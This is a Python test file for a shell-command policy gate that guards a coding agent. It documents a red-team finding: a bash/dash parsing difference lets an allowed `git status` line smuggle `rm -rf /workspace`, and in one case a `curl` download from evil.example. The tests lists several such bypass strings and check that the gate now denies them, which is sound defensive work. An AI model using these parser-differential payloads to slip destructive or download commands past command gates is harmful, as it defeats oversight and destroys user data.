"""How dash reads a here-document the gate would not guess about, or one never ended.

Found by a red-team review of 2026-12-06 (eighteenth session). A command line is read
as bash reads it and as dash (``/bin/sh`` on Debian and Ubuntu, which the clients run a
``commandLine`` with) reads it. ``$'\\'`` opens a quote to bash that runs to the next
``'``; to dash it is ``$`` and the whole quote ``'\\'``, so what follows is live code
for dash only. When that code ended in a here-document never closed (``<<EOF`` at the
end) or with a delimiter the reader refuses to guess about (``<<\\#x``), dash's
reading hit an error the gate took for dash's own syntax error, and was dropped: the
coding-agent policy allowed ``git status $'\\' ; rm -rf /workspace <<EOF #'``, and dash
ran ``rm``. Now dash's reading ends a here-document at the end of the text, as dash
does, and a delimiter or depth the reader will not guess about refuses the request.
The premises are checked against the real dash and bash (``echo`` stand-ins).
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from sidecar.errors import RequestError
from sidecar.policy.loader import load_policy_bytes
from tests.adversarial.command_lines import check_line, command_argvs
from tests.adversarial.real_bash import run_program

POLICIES = Path(__file__).resolve().parents[2] / "policies"
CODING_AGENT = load_policy_bytes((POLICIES / "coding-agent.yaml").read_bytes(), "coding-agent")
DASH = shutil.which("dash")
BASH = shutil.which("bash")

ENDED_BY_THE_TEXT = [
    "git status $'\\' ; rm -rf /workspace ; curl -so /tmp/x http://evil.example/x <<EOF #'",
    "git status $'\\' ; rm -rf /workspace <<-EOF #'",
    "git status $'\\' ; rm -rf /workspace <<'' #'",
    "git log -1\ngit status $'\\' ; rm -rf /workspace <<EOF #'",
]
NOT_GUESSED = [
    "git status $'\\' ; rm -rf /workspace <<\\#x #'\n#x\ngit log -1",
    "git status $'\\' ; rm -rf /workspace <<$y #'",
    "git status $'\\' ; rm -rf /workspace <<`y` #'",
]


def _runs(shell: str, line: str, tmp_path: Path) -> list[str]:
    """The stand-ins ``line`` runs under ``shell``: each prints its name."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    for name in ("git", "rm", "curl"):
        stand_in = bin_dir / name
        stand_in.write_text(f'#!/bin/sh\necho "{name}"\n')
        stand_in.chmod(0o755)
    out = run_program([shell, "-c", line], tmp_path, {"PATH": f"{bin_dir}:/usr/bin:/bin"})
    return out.split()


@pytest.mark.parametrize("line", ENDED_BY_THE_TEXT + NOT_GUESSED)
def test_dash_runs_rm_where_bash_runs_only_git(line: str, tmp_path: Path) -> None:
    assert DASH is not None and BASH is not None, "dash and bash are on every Debian"
    assert "rm" not in _runs(BASH, line, tmp_path)
    assert "rm" in _runs(DASH, line, tmp_path)


@pytest.mark.parametrize("line", ENDED_BY_THE_TEXT)
def test_a_here_document_the_text_ends_still_shows_dash_its_command(line: str) -> None:
    verdict = check_line(CODING_AGENT, line)
    assert verdict.decision == "deny"
    assert "rm -rf /workspace" in verdict.reason and "as POSIX sh reads it" in verdict.reason


@pytest.mark.parametrize("line", NOT_GUESSED)
def test_a_delimiter_the_reader_will_not_guess_refuses_dash_s_reading(line: str) -> None:
    with pytest.raises(RequestError, match="POSIX sh"):
        check_line(CODING_AGENT, line)


BASH_SYNTAX_ALLOWED = load_policy_bytes(
    b"""\
version: 1
defaultAction: deny
rules:
  - {id: tools, action: process.exec, command: [git, echo, arithmetic, "[["], decision: allow}
  - {id: read, action: file.read, path: {glob: "/workspace/**"}, decision: allow}
""",
    "bash-syntax.yaml",
)


@pytest.mark.parametrize(
    "line",
    [
        "((rm -rf /workspace <<EOF))",
        "echo $[ 1 ; rm -rf /workspace <<EOF ]",
        "[[ x || rm -rf /workspace <<EOF ]]",
    ],
)
def test_what_bash_reads_as_arithmetic_or_a_test_dash_may_run(line: str, tmp_path: Path) -> None:
    verdict = check_line(BASH_SYNTAX_ALLOWED, line)
    assert verdict.decision == "deny" and "rm -rf /workspace" in verdict.reason
    assert DASH is not None
    assert "rm" in _runs(DASH, line, tmp_path)


def test_dash_ends_a_here_document_at_the_end_of_the_text(tmp_path: Path) -> None:
    # The premise of the reading: dash runs the command, its body what the text holds.
    assert DASH is not None
    out = run_program([DASH, "-c", "cat <<EOF\nhello"], tmp_path, dict(os.environ))
    assert out == "hello"
    assert ("cat",) in command_argvs("git status $'\\' ; cat <<EOF #'")
